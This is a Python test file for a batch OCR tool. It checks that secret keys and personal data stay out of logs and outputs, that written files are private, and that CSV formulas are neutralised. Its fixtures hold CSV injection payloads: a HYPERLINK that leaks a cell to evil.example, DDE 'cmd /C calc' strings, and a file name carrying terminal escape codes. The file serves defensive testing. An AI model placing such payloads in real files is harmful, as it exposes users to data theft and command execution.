"""Secrets and personal data: nothing leaks into logs, outputs, state or other users' view.

A full run (verbose, faults, bad files, portraits, report, summary) is scanned byte by
byte for the secret key in clear, base64, URL-encoded and hex forms; default logs are
scanned for the samples' names and ID numbers; every file written is mode 0600; CSV
cells a spreadsheet would execute are neutralised.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from batch_ocr.cli import main
from batch_ocr.provider import signing
from batch_ocr.run.output.csv_writer import FORMULA_TRIGGERS
from tests.e2e_support import (
    FIXTURES,
    HOSTILE,
    SAMPLES,
    demo_env,
    emulator_in_thread,
    emulator_process,
    read_rows,
)
from tests.hostile import corpus

SECRET_ID = "AKIDhostile00000000000000000000000001"
#: Characters that change under base64, URL and form encoding, and a non-ASCII tail.
SECRET_KEY = "s3cr+t/K3y=with spaces&more%2F-密钥"


def secret_forms() -> dict[str, bytes]:
    """Every way the key could end up written down."""
    raw = SECRET_KEY.encode("utf-8")
    return {
        "clear": raw,
        "base64": base64.b64encode(raw),
        "urlsafe base64": base64.urlsafe_b64encode(raw),
        "url-encoded": quote(SECRET_KEY, safe="").encode(),
        "form-encoded": quote_plus(SECRET_KEY).encode(),
        "hex": raw.hex().encode(),
        "utf-16": SECRET_KEY.encode("utf-16-le"),
        "json-escaped": json.dumps(SECRET_KEY).encode()[1:-1],
    }


def _all_files(folder: Path, skip: Path) -> Iterator[Path]:
    for path in sorted(folder.rglob("*")):
        if path.is_file() and skip not in path.parents:
            yield path


def _sample_scans(folder: Path) -> Path:
    """The samples (real-looking cards), plus some files that fail locally."""
    shutil.copytree(SAMPLES, folder)
    shutil.copy(HOSTILE / "broken.jpg", folder / "broken.jpg")
    corpus.truncated_jpeg(folder / "truncated.jpg")
    corpus.text_as_jpg(folder / "text.jpg")
    corpus.zero_byte(folder / "empty.png")
    return folder


@pytest.mark.slow
def test_a_full_run_writes_the_secret_key_nowhere(tmp_path: Path) -> None:
    scans = _sample_scans(tmp_path / "scans")
    work = tmp_path / "work"
    work.mkdir()
    env = demo_env(BATCH_OCR_SECRET_ID=SECRET_ID, BATCH_OCR_SECRET_KEY=SECRET_KEY)
    logs: list[bytes] = []
    with emulator_process("--fixtures", str(FIXTURES), "--secret-id", SECRET_ID,
                          "--secret-key", SECRET_KEY, "--seed", "5", "--fail-rate", "0.2",
                          "--html-error-rate", "0.1", "--reset-rate", "0.1") as url:
        for output, extra in (("out.csv", ["--portraits", str(work / "portraits"),
                                           "--report", str(work / "report.html")]),
                              ("out.jsonl", ["--pair", "--mask"])):
            done = subprocess.run(
                [sys.executable, "-m", "batch_ocr", str(scans), "-o", str(work / output),
                 "--endpoint", url, "--verbose", "--timeout", "2", "--max-attempts", "6",
                 "--summary-json", str(work / f"{output}.summary.json"), *extra],
                env=env, capture_output=True, timeout=120, cwd=work,
            )
            assert done.returncode == 1, done.stderr.decode()  # the three broken files
            logs += [done.stdout, done.stderr]
        # Refused credentials and a refused config: their messages must not quote the key.
        for bad_env in (demo_env(BATCH_OCR_SECRET_ID="AKIDunknown", BATCH_OCR_SECRET_KEY=SECRET_KEY),
                        {**env, "BATCH_OCR_TIMEOUT": "soon", "BATCH_OCR_QPS": SECRET_KEY}):
            refused = subprocess.run(
                [sys.executable, "-m", "batch_ocr", str(scans), "-o", str(work / "other.csv"),
                 "--endpoint", url, "--verbose", "--force"],
                env=bad_env, capture_output=True, timeout=60, cwd=work,
            )
            assert refused.returncode in (2, 3), refused.stderr.decode()
            logs += [refused.stdout, refused.stderr]
    written = {path: path.read_bytes() for path in _all_files(work, skip=scans)}
    assert any(path.name.endswith(".state.sqlite") for path in written)
    assert any(path.suffix == ".jpg" for path in written)  # portraits were saved
    assert b"fatal: the API refused the credentials" in b"".join(logs)
    for form, needle in secret_forms().items():
        for path, data in written.items():
            assert needle not in data, f"the secret key ({form}) is in {path}"
        for log in logs:
            assert needle not in log, f"the secret key ({form}) is in a log"


def _fixture_strings() -> set[str]:
    """Names, ID numbers, addresses and authorities of the samples."""
    values = set()
    for line in FIXTURES.read_text(encoding="utf-8").splitlines():
        info = json.loads(line)["data"]["info"]
        values |= {info[key] for key in ("name", "number", "address", "authority") if info.get(key)}
    return values


@pytest.mark.parametrize("verbosity", [[], ["--verbose"]], ids=["default", "verbose"])
def test_logs_never_hold_names_or_id_numbers(tmp_path: Path, verbosity: list[str],
                                             capsys: pytest.CaptureFixture[str]) -> None:
    personal = _fixture_strings()
    assert len(personal) >= 12
    out = tmp_path / "out.csv"
    with emulator_in_thread(fixture_paths=(FIXTURES,)) as emulator:
        code = main([str(SAMPLES), str(HOSTILE), "-o", str(out), "--endpoint", emulator.url,
                     *verbosity])
    captured = capsys.readouterr()
    assert code == 1  # broken.jpg
    logs = captured.out + captured.err
    assert "rows written: 12" in logs
    leaked = sorted(value for value in personal if value in logs)
    assert leaked == []
    # ... while the output does hold them: the scan above would have seen them.
    assert all(value in out.read_text(encoding="utf-8-sig") for value in personal)


def test_every_file_written_is_private_whatever_the_umask_or_old_modes(
        tmp_path: Path) -> None:
    scans = _sample_scans(tmp_path / "scans")
    out = tmp_path / "out.csv"
    state = tmp_path / "out.csv.state.sqlite"
    for old in (out, state):  # left world-readable by an older version or a restore
        old.touch()
        old.chmod(0o644)
    previous = os.umask(0o000)  # the laxest umask a cron job could have
    try:
        with emulator_in_thread(fixture_paths=(FIXTURES,)) as emulator:
            code = main([str(scans), "-o", str(out), "--endpoint", emulator.url, "-q",
                         "--summary-json", str(tmp_path / "summary.json"),
                         "--portraits", str(tmp_path / "portraits"),
                         "--report", str(tmp_path / "report.html")])
    finally:
        os.umask(previous)
    assert code == 1
    files = list(_all_files(tmp_path, skip=scans))
    assert {path.name for path in files} >= {
        "out.csv", "out.csv.state.sqlite", "summary.json", "report.html",
        "zhangsan_front.jpg.jpg"}
    loose = {str(path.relative_to(tmp_path)): oct(path.stat().st_mode & 0o777)
             for path in files if path.stat().st_mode & 0o077}
    assert loose == {}


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "address": "+cmd|' /C calc'!A0",
    "authority": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nation": "-2+3",
    "sex": "\t=1+1",
    "number": "\r=1+1",
}


def test_formula_cells_from_the_api_are_neutralised_in_csv(tmp_path: Path) -> None:
    scans = tmp_path / "scans"
    scans.mkdir()
    image = scans / "evil.jpg"
    image.write_bytes(corpus.jpeg_bytes("evil"))
    fixture = {
        "sha256": hashlib.sha256(image.read_bytes()).hexdigest(),
        "data": {"order_no": "=1+1", "result": 0, "side": "front",
                 "info": {"year": "1990", "month": "1", "day": "2", **FORMULAS},
                 "validity": {"name": True, "=HYPERLINK(\"x\")": False}},
    }
    fixtures = tmp_path / "evil.jsonl"
    fixtures.write_text(json.dumps(fixture) + "\n", encoding="utf-8")
    with emulator_in_thread(fixture_paths=(fixtures,)) as emulator:
        assert main([str(scans), "-o", str(tmp_path / "out.csv"), "--endpoint", emulator.url,
                     "-q"]) == 0
        assert main([str(scans), "-o", str(tmp_path / "out.jsonl"), "--endpoint",
                     emulator.url, "-q"]) == 0
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row
    for column, value in {"name": FORMULAS["name"], "address": FORMULAS["address"],
                          "authority": FORMULAS["authority"], "nation": FORMULAS["nation"],
                          "sex": FORMULAS["sex"], "id_number": FORMULAS["number"],
                          "order_no": "=1+1"}.items():
        assert row[column] == "'" + value
    assert row["invalid_fields"] == "'=HYPERLINK(\"x\")"
    # JSONL is for programs: it keeps what the API said, unchanged.
    (raw,) = read_rows(tmp_path / "out.jsonl")
    assert raw["name"] == FORMULAS["name"] and raw["id_number"] == FORMULAS["number"]


def test_the_signature_is_the_only_trace_of_the_key_on_the_wire() -> None:
    headers = signing.signed_headers(SECRET_ID, SECRET_KEY, "market")
    wire = json.dumps(headers).encode()
    for form, needle in secret_forms().items():
        assert needle not in wire, form


def test_a_file_name_cannot_inject_terminal_escapes_into_the_log(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    scans = tmp_path / "scans"
    scans.mkdir()
    (scans / "x\x1b[2J\x1b]0;owned\x07\rbatch-ocr: all fine.jpg").write_bytes(b"")
    main([str(scans), "-o", str(tmp_path / "out.jsonl"), "--verbose", "--dry-run"])
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\r" not in err
